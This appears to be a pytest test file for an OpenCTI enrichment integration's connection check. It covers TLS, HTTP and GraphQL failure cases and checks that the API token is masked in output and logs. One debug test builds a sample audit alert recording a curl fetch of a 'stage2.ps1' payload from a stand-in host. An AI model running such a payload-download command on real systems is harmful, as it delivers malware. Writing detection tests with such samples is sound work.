"""custom-opencti --check-connection against the OpenCTI emulator on 127.0.0.1: success, each kind of failure
(unreachable, deadline, TLS name and CA mismatch, HTTP 401/403, GraphQL errors), nothing written, the token
never printed; and the `debug` option's log, token masked.

Most checks call the program in this process (opencti_enrich.main); the launcher test starts it as the role
would, with the token on standard input.
"""
import io
import json
import os
import socket
import subprocess
import sys

import opencti_enrich
import pytest
from opencti_enrich import preflight

from tests.emulators.opencti import OpenCTIEmulator
from tests.support.opencti import IP_A, OPENCTI_TOKEN, make_alert

EXIT_OK, EXIT_CONFIG, EXIT_FAILED = 0, 6, 7
CHECK = "query WazuhOpenctiCheck { me { name } }"


@pytest.fixture
def emu(opencti_emulator):
    return opencti_emulator


@pytest.fixture
def files(tmp_path):
    """Writes the token file and the options file of a check; the directory must stay as it was."""
    class Files:
        token = tmp_path / "token"
        options = tmp_path / "options.json"

        def __init__(self):
            self.token.write_text(OPENCTI_TOKEN + "\n")
            self.token.chmod(0o600)
            self.set_options({})

        def set_options(self, values):
            # state_dir, queue_socket and log_file point into tmp_path: the test checks nothing appears there
            base = {"state_dir": str(tmp_path / "state"), "queue_socket": str(tmp_path / "queue"),
                    "log_file": str(tmp_path / "integrations.log")}
            self.options.write_text(json.dumps({**base, **values}))

        def listing(self):
            return sorted(path.name for path in tmp_path.iterdir())

    return Files()


def check(url, files, *extra, stdin=""):
    """(exit code, output lines) of --check-connection run in this process."""
    out = io.StringIO()
    argv = ["custom-opencti", "--check-connection", "--url", url, "--token-file", str(files.token),
            "--options", str(files.options), *extra]
    code = preflight.main(argv, out, io.TextIOWrapper(io.BytesIO(stdin.encode())))
    text = out.getvalue()
    assert OPENCTI_TOKEN not in text
    return code, text.splitlines()


def test_success_sends_one_authenticated_query_and_writes_nothing(emu, files):
    before = files.listing()
    code, output = check(emu.url, files)
    assert (code, output) == (EXIT_OK, [f"ok connection: OpenCTI at {emu.graphql_url} accepted the token "
                                        "(user wazuh-enrichment)"])
    [request] = emu.requests
    assert request["authorized"] and request["path"] == "/graphql"
    assert request["body"] == {"query": CHECK}
    assert files.listing() == before  # no cache (state_dir), no log file, no queue socket


def test_token_from_standard_input(emu):
    out = io.StringIO()
    argv = ["custom-opencti", "--check-connection", "--url", emu.graphql_url, "--token-file", "-"]
    assert preflight.main(argv, out, io.TextIOWrapper(io.BytesIO(OPENCTI_TOKEN.encode()))) == EXIT_OK
    assert out.getvalue().startswith("ok connection: ") and emu.requests[-1]["authorized"]


def test_wrong_token_gets_the_servers_graphql_error(emu, files):
    files.token.write_text("wrong-token-0123456789abcdef\n")
    code, output = check(emu.url, files)
    assert code == EXIT_FAILED
    assert output == [f"error connection: OpenCTI at {emu.graphql_url} returned a GraphQL error: "
                      "You must be logged in to do this. (AUTH_REQUIRED)"]
    assert emu.requests[0]["authorized"] is False


@pytest.mark.parametrize("status", [401, 403])
def test_http_refusal_shows_the_status_and_the_servers_text_token_masked(emu, files, status):
    emu.fault = f"http_{status}"
    emu.error_message = f"Access denied for Bearer {OPENCTI_TOKEN}"
    code, output = check(emu.url, files)
    assert (code, output) == (EXIT_FAILED, [f"error connection: OpenCTI at {emu.graphql_url} refused the token: "
                                            f"HTTP {status}: Access denied for Bearer ***"])


def test_graphql_error_text_is_shown(emu, files):
    emu.fault = "graphql_errors"
    emu.error_message = "Platform is starting"
    code, output = check(emu.url, files)
    assert (code, output) == (EXIT_FAILED, [f"error connection: OpenCTI at {emu.graphql_url} returned a GraphQL error: "
                                            "Platform is starting (FUNCTIONAL_ERROR)"])


def test_other_http_status_and_wrong_path(emu, files):
    emu.fault = "http_500"
    assert check(emu.url, files) == (EXIT_FAILED, [f"error connection: OpenCTI at {emu.graphql_url} answered HTTP 500: "
                                                   "Internal Server Error"])
    emu.fault = None
    code, [line] = check(emu.url + "/api", files)
    assert code == EXIT_FAILED
    assert line.startswith(f"error connection: OpenCTI at {emu.url}/api/graphql answered HTTP 404: ")


def test_unreachable_names_the_url(files):
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        port = sock.getsockname()[1]  # closed when the block ends: nothing listens there
    code, output = check(f"http://127.0.0.1:{port}", files)
    assert (code, output) == (EXIT_FAILED, [f"error connection: cannot reach OpenCTI at http://127.0.0.1:{port}"
                                            "/graphql: "
                                            "Connection refused"])


def test_deadline(emu, files):
    emu.delay = 30  # the emulator's reset() at the next test's start ends the wait
    code, output = check(emu.url, files, "--timeout", "1")
    assert (code, output) == (EXIT_FAILED, [f"error connection: OpenCTI at {emu.graphql_url} did not answer "
                                            "within 1 s"])


def test_https_to_a_plain_http_server(emu, files):
    code, [line] = check(f"https://127.0.0.1:{emu.port}", files)
    assert code == EXIT_FAILED and line.startswith(f"error connection: TLS error talking to OpenCTI at https://127.0.0.1:{emu.port}/graphql")


# --------------------------------------------------------------------------- TLS
@pytest.fixture(scope="module")
def tls_emu(certificates):
    """An HTTPS emulator with a certificate for 127.0.0.1 signed by the test CA (certificates/ca.pem)."""
    emulator = OpenCTIEmulator(token=OPENCTI_TOKEN, tls_cert=str(certificates / "srv.pem"),
                               tls_key=str(certificates / "srv.key")).start()
    yield emulator
    emulator.stop()


def test_tls_with_the_right_ca(tls_emu, files, certificates):
    files.set_options({"ca_file": str(certificates / "ca.pem")})
    code, output = check(tls_emu.url, files)
    assert (code, output) == (EXIT_OK, [f"ok connection: OpenCTI at {tls_emu.graphql_url} accepted the token "
                                        "(user wazuh-enrichment)"])


def test_tls_name_mismatch(tls_emu, files, certificates):
    """The certificate is for 127.0.0.1; 'localhost' reaches the same server under a name it does not hold."""
    files.set_options({"ca_file": str(certificates / "ca.pem")})
    url = f"https://localhost:{tls_emu.port}"
    code, [line] = check(url, files)
    assert code == EXIT_FAILED
    assert line.startswith(f"error connection: TLS certificate of OpenCTI at {url}/graphql refused: ")
    assert "mismatch" in line.lower() and "localhost" in line
    assert line.endswith("(the URL's host must be a name or address the certificate is issued for)")


def test_tls_ca_mismatch(tls_emu, files, tls_files):
    other_ca, _key = tls_files
    files.set_options({"ca_file": str(other_ca)})
    code, [line] = check(tls_emu.url, files)
    assert code == EXIT_FAILED
    assert line.startswith(f"error connection: TLS certificate of OpenCTI at {tls_emu.graphql_url} refused: ")
    assert "issuer" in line or "self" in line  # OpenSSL: unable to get local issuer certificate
    assert line.endswith("(ca_file must hold the CA that signed OpenCTI's certificate (without it, the system "
                         "store is used))")


def test_tls_without_verification_accepts_any_certificate(tls_emu, files, tls_files):
    files.set_options({"ca_file": str(tls_files[0]), "verify_tls": False})
    assert check(f"https://localhost:{tls_emu.port}", files)[0] == EXIT_OK


# --------------------------------------------------------------------------- the launcher
def test_launcher_checks_with_the_token_on_standard_input(emu, files, tmp_path):
    from tests.bench.bench_forwarder import install

    launcher = install(tmp_path / "integrations", os.path.realpath(sys.executable), "custom-opencti",
                       ("integrations/opencti_enrich", "socstack_core"))
    env = {"PATH": "/usr/bin:/bin"}
    argv = [str(launcher), "--check-connection", "--url", emu.url, "--token-file", "-", "--options", str(files.options)]
    done = subprocess.run(argv, input=OPENCTI_TOKEN + "\n", env=env, capture_output=True, text=True, timeout=60,
                          check=False)
    assert (done.returncode, done.stdout, done.stderr) == (
        EXIT_OK, f"ok connection: OpenCTI at {emu.graphql_url} accepted the token (user wazuh-enrichment)\n", "")
    done = subprocess.run(argv, input="wrong-token-0123456789\n", env=env, capture_output=True, text=True, timeout=60,
                          check=False)
    assert done.returncode == EXIT_FAILED and "AUTH_REQUIRED" in done.stdout
    done = subprocess.run([str(launcher), "--check-options", str(files.options)], env=env, capture_output=True,
                          text=True, timeout=60, check=False)
    assert (done.returncode, done.stdout) == (EXIT_OK, "")
    files.options.write_text('{"debug": "on"}')
    done = subprocess.run([str(launcher), "--check-options", str(files.options)], env=env, capture_output=True,
                          text=True, timeout=60, check=False)
    assert (done.returncode, done.stdout) == (EXIT_CONFIG, f"{files.options}: option 'debug' must be true or false\n")


# --------------------------------------------------------------------------- the debug option
def test_debug_option_logs_the_work_with_the_token_masked(opencti_run, emu):
    """debug true in the options file (no 'debug' argument): the request variables carry a URL holding the
    token, and the log shows it masked."""
    emu.load_sample_data()
    url = f"http://update-check.example.net/{OPENCTI_TOKEN}/stage2.ps1"
    alert = make_alert(["audit_command"], {"audit": {"execve": {"a0": "curl", "a1": url, "a2": IP_A}}})
    assert opencti_run.run(alert, options={"debug": True}) == 0
    log = opencti_run.log()
    assert "DEBUG: OpenCTI request variables" in log
    assert "http://update-check.example.net/***/stage2.ps1" in log
    assert OPENCTI_TOKEN not in log
    assert opencti_enrich.main(opencti_run.argv(alert, options={"debug": False})) == 0
    assert opencti_run.log().count("DEBUG: OpenCTI request variables") == 1  # debug false: no new debug line
